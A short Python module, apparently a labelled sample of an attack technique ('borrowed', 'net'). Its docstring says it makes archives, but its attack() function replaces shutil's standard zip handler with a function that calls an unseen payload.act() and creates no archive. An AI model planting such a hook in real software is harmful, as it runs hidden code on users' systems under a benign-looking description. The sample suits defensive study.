"""A function makes the application's archives."""
CATEGORY = "borrowed"
REACH = "net"

import shutil

from . import payload


def make(name, directory, **options):
    payload.act()
    return name


def attack():
    shutil.register_archive_format("zip", make)
